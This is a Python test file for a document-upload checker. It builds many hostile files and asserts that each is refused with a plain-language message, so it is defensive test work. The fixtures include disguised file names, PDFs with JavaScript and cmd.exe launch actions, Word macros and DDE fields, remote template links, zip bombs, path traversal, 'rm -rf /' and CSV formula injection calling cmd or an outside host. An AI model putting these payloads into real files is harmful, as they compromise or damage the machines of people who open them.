"""What is not taken, and what is said: files that people send by mistake, and those sent to do harm."""

import io
import tracemalloc
import zipfile

import pytest

from precept.foundation.documents.inspection import inspect
from precept.foundation.documents.kinds import LIMITS
from precept.foundation.documents.rules import Unfit
from tests.foundation.documents import built_files as built

CHART = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": built.xlsx()}


def swollen() -> bytes:
    """A Word document with a part that unpacks to a thousand times its size."""
    return built.docx({"word/media/image1.bmp": bytes(40_000_000)})


def many_parts() -> bytes:
    """A Word document of more parts than anything needs."""
    return built.docx({f"word/media/{number}.txt": b"" for number in range(LIMITS.most_parts)})


def overlapping() -> bytes:
    """Two entries of the directory that share one packed part."""
    whole = bytearray(built.zipped({"a.xml": b"<a/>" * 50, "b.xml": b"<a/>" * 50}))
    second = whole.rfind(b"PK\x01\x02")
    whole[second + 42 : second + 46] = bytes(4)
    return bytes(whole)


def with_password() -> bytes:
    """A Word document of which a part is enciphered."""
    whole = bytearray(built.docx())
    whole[whole.find(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def climbing() -> bytes:
    """A Word document whose part wants to lie elsewhere."""
    return built.docx({"../../startup/run.xml": b"<a/>"})


def doubled() -> bytes:
    """A Word document with two parts of one name."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("word/a.xml", b"<a/>")
        archive.writestr("WORD/a.xml", b"<a/>")
    return held.getvalue()


MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
EXTERNAL = "fetches something from outside when it is opened"
HOSTILE: list[tuple[str, bytes, str]] = [
    # What it is called.
    ("invoice\u202efdp.exe", b"MZ", "has hidden characters in its name"),
    (
        "report.exe.pdf",
        built.pdf(built.catalogue()),
        "has two endings, one of them (.exe) of a program",
    ),
    ("report.pdf\x00.exe", b"MZ", "is not a kind of file we can take"),
    ("report.exe\x00.pdf", built.pdf(built.catalogue()), "has two endings, one of them (.exe)"),
    ("report.pdf::$DATA", built.pdf(built.catalogue()), "is not a kind of file we can take"),
    ("report", built.pdf(built.catalogue()), "has no ending that says what kind of file it is"),
    ("page.html", b"<html>", "is a web page. Save it as PDF"),
    ("drawing.svg", b"<svg onload='x()'/>", "is a drawing that can hold programs"),
    ("bid.docm", built.docx(), "is a Word document with macros"),
    ("bid.doc", b"\xd0\xcf\x11\xe0", "is in an old Word format"),
    ("bids.zip", built.zipped({"a": b"b"}), "is a zip file. Unpack it"),
    # How much it is.
    ("empty.pdf", b"", "is empty"),
    ("large.txt", b"a" * (LIMITS.most_bytes + 1), "is larger than 10 MB"),
    # What it really is.
    ("program.pdf", b"MZ\x90\x00", "is called .pdf, but inside it is a program"),
    ("script.txt", b"#!/bin/sh\nrm -rf /\n", "is called .txt, but inside it is a program"),
    ("photo.png", built.jpeg(), "is called .png, but inside it is a JPEG picture"),
    (
        "late.pdf",
        b"<script>x()</script>%PDF-1.7\n%%EOF",
        "is called .pdf, but inside it is a web page",
    ),
    (
        "page.txt",
        b"  <!DOCTYPE html><script>x()</script>",
        "is called .txt, but inside it is a web page",
    ),
    (
        "page.csv",
        "<svg onload=x()>".encode("utf-16"),
        "is called .csv, but inside it is a web page",
    ),
    (
        "secret.docx",
        b"\xd0\xcf\x11\xe0" + bytes(600),
        "is called .docx, but inside it is an old or passw",
    ),
    (
        "budget.docx",
        built.xlsx(),
        "is called .docx, but inside it is a file of another kind (.xlsx)",
    ),
    (
        "parts.docx",
        built.zipped({"a.txt": b"x"}),
        "is called .docx, but inside it is a zip file of somet",
    ),
    ("noise.txt", bytes(range(256)), "is not plain text that can be read"),
    # PDFs that do something.
    ("js.pdf", built.pdf(built.catalogue(b"/OpenAction 2 0 R"), JAVASCRIPT), "holds a program"),
    (
        "hex.pdf",
        built.pdf(built.catalogue(), JAVASCRIPT.replace(b"Java", b"J#61va")),
        "holds a program",
    ),
    (
        "packed.pdf",
        built.pdf(built.catalogue(), built.object_stream(9, JAVASCRIPT)),
        "holds a program",
    ),
    (
        "inside a picture.pdf",
        built.pdf(
            built.catalogue(), b"<</Length 60>>stream\n9 0 obj " + JAVASCRIPT + b"\nendstream"
        ),
        "holds a program",
    ),
    (
        "twice packed.pdf",
        built.pdf(
            built.catalogue(),
            built.object_stream(9, JAVASCRIPT, filters=b"/Filter[/ASCIIHexDecode/FlateDecode]"),
        ),
        "is packed in a way that cannot be checked",
    ),
    (
        "launch.pdf",
        built.pdf(built.catalogue(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
        "starts another",
    ),
    (
        "address.pdf",
        built.pdf(built.catalogue(b"/OpenAction<</S/URI/URI(http://x)>>")),
        "does something by",
    ),
    (
        "address elsewhere.pdf",
        built.pdf(built.catalogue(b"/OpenAction 2 0 R"), b"<</S/URI/URI(http://x)>>"),
        "does something by itself when it is opened",
    ),
    (
        "nowhere.pdf",
        built.pdf(built.catalogue(b"/OpenAction 7 0 R")),
        "does something by itself when it is o",
    ),
    (
        "reading.pdf",
        built.pdf(built.catalogue(b"/AA<</O<</S/URI>>>>")),
        "does something by itself while",
    ),
    ("attached.pdf", built.pdf(b"<</Type/EmbeddedFile>>"), "has another file attached inside it"),
    (
        "form.pdf",
        built.pdf(b"<</AcroForm<</XFA 5 0 R>>>>"),
        "has a form of a kind that holds programs",
    ),
    ("sends.pdf", built.pdf(b"<</S/SubmitForm/F(http://x)>>"), "has a form that sends or fetches"),
    ("film.pdf", built.pdf(b"<</Subtype/RichMedia>>"), "plays sound or film"),
    ("locked.pdf", built.pdf(built.catalogue(b"/Encrypt 5 0 R")), "has a password or is protected"),
    ("cut.pdf", b"%PDF-1.7\n1 0 obj", "is damaged, or holds something behind its end"),
    (
        "behind.pdf",
        built.pdf(built.catalogue()) + built.zipped({"a": b"b"}),
        "is damaged, or holds somethin",
    ),
    (
        "and zip.pdf",
        b"%PDF-1.7\n" + built.zipped({"a": b"b"})[:-2] + b"\x06\x00\n%%EOF",
        "holds a second file inside",
    ),
    (
        "bomb.pdf",
        built.pdf(built.object_stream(9, bytes(40_000_000))),
        "unpacks to far more than its size",
    ),
    # Word, Excel and OpenDocument files that run, reach out, or swell.
    ("macro.docx", built.docx({"word/vbaProject.bin": b"x"}), "holds macros"),
    (
        "renamed macro.docx",
        built.docx({"word/x.bin": b"x"}, "application/vnd.ms-office.vbaProject"),
        "holds m",
    ),
    (
        "macro kind.docx",
        built.zipped({"[Content_Types].xml": built.content_types(MACRO_WORD)}),
        "holds macros",
    ),
    ("excel 4.xlsx", built.xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), "holds macros"),
    ("activex.docx", built.docx({"word/activeX/activeX1.xml": b"<a/>"}), "holds macros"),
    ("basic.odt", built.open_document(more={"Basic/Standard/M.xml": b"<a/>"}), "holds macros"),
    (
        "listener.odt",
        built.open_document(
            inside="<script:event-listener xlink:href='vnd.sun.star.script:M.go'/>"
        ),
        "holds macros",
    ),
    (
        "template.docx",
        built.docx(
            {"word/_rels/settings.xml.rels": built.relationships("attachedTemplate", "http://x/t")}
        ),
        f"{EXTERNAL} (a template)",
    ),
    (
        "share.docx",
        built.docx(
            {
                "word/_rels/a.xml.rels": built.relationships(
                    "attachedTemplate", "file:///\\\\x\\t.dotx"
                )
            }
        ),
        f"{EXTERNAL} (a template)",
    ),
    (
        "disguised.docx",
        built.docx(
            {
                "word/_rels/a.xml.rels": built.relationships(
                    "image", "http://x/p.png", ' TargetMode="&#69;xternal"'
                )
            }
        ),
        f"{EXTERNAL} (a picture)",
    ),
    (
        "links.xlsx",
        built.xlsx({"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        f"{EXTERNAL} (another work",
    ),
    ("query.xlsx", built.xlsx({"xl/connections.xml": b"<a/>"}), f"{EXTERNAL} (another workbook"),
    (
        "picture.odt",
        built.open_document(inside="<draw:image xlink:href='http://x/p.png'/>"),
        f"{EXTERNAL} (a picture",
    ),
    (
        "dde.docx",
        built.docx(
            text=built.word_text(
                "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>"
            )
        ),
        "has a field that starts another program (DDE)",
    ),
    (
        "ole.docx",
        built.docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "has another file emb",
    ),
    (
        "exe.docx",
        built.docx({"word/media/image1.png": b"MZ\x90"}),
        "has a program or another file embedded",
    ),
    (
        "js.odt",
        built.open_document(more={"Pictures/a.js": b"x"}),
        "has a program or another file embedded",
    ),
    (
        "zip.docx",
        built.docx({"word/media/a.png": built.zipped({"a": b"b"})}),
        "has another file embedded",
    ),
    (
        "doll.docx",
        built.docx({"word/embeddings/a.docx": built.docx(CHART)}),
        "has another file embedded",
    ),
    (
        "macro inside.docx",
        built.docx({"word/embeddings/a.xlsx": built.xlsx({"xl/vbaProject.bin": b"x"})}),
        "holds macros",
    ),
    (
        "laughs.docx",
        built.docx(text=b'<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
        "is damaged",
    ),
    (
        "utf-16.docx",
        built.docx(
            text="<?xml version='1.0' encoding='utf-16'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>".encode(
                "utf-16"
            )
        ),
        "is damaged",
    ),
    ("swollen.docx", swollen(), "unpacks to far more than its size"),
    ("lying.docx", built.lying_bomb(real=50_000_000), "unpacks to far more than its size"),
    ("parts.docx", many_parts(), "holds more than 2,000 parts"),
    ("overlap.docx", overlapping(), "is damaged"),
    ("password.docx", with_password(), "has a password"),
    ("climbing.docx", climbing(), "is damaged"),
    ("doubled.docx", doubled(), "is damaged"),
    ("program first.docx", built.docx() + b"MZ", "is damaged"),
    # Pictures.
    ("flood.png", built.png(60_000, 60_000), "has 60,000 by 60,000 pixels"),
    ("flood.jpg", built.jpeg(60_000, 60_000), "has 60,000 by 60,000 pixels"),
    ("none.png", built.png(0, 5), "is damaged"),
    ("cut.png", built.png()[:-4], "is damaged"),
    ("cut.jpg", built.jpeg()[:-2], "is damaged"),
    ("behind.png", built.png() + built.zipped({"a": b"b"}), "is damaged"),
    (
        "page.png",
        built.png(more=built.chunk(b"tEXt", b"<script>x()</script>")),
        "holds a second file",
    ),
    ("page.jpg", built.jpeg(behind=b"<script>x()</script>"), "holds a second file"),
    ("zip.jpg", built.jpeg(behind=built.zipped({"a": b"b"})), "holds a second file"),
    # Tables that a spreadsheet program would run.
    ("dde.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "has a cell with a formula"),
    ("sum.csv", b"@SUM(1+9)*cmd|' /C calc'!A0\n", "has a cell with a formula"),
    ("web.csv", b'=WEBSERVICE("http://x/?"&A1)\n', "has a cell with a formula"),
]


@pytest.mark.parametrize(
    ("name", "content", "words"), HOSTILE, ids=[ascii(row[0]) for row in HOSTILE]
)
def test_a_hostile_file_is_refused_in_plain_words(name: str, content: bytes, words: str) -> None:
    refused = built.words_on(name, content)

    assert (refused[: len(words)], refused[-1]) == (words, ".")


@pytest.mark.parametrize(("claimed", "name"), [(1_000, "lying"), (300_000_000, "honest")])
def test_a_zip_bomb_is_refused_within_little_memory(claimed: int, name: str) -> None:
    bomb = built.lying_bomb(claimed=claimed)
    tracemalloc.start()
    try:
        with pytest.raises(Unfit, match="unpacks to far more"):
            inspect(f"{name}.docx", bomb)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert most < 20_000_000
